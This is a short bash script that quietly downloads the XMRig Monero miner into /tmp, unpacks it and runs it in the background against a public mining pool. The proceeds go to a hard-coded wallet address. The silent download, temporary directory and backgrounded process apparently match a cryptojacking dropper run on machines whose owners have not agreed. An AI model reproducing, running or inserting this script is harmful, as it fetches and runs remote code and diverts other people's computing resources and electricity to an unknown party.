#!/bin/bash
cd /tmp || exit 1
wget -q https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz -O x.tgz
tar xf x.tgz
cd xmrig-6.21.0 || exit 1
./xmrig -o pool.supportxmr.com:443 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD --tls -B
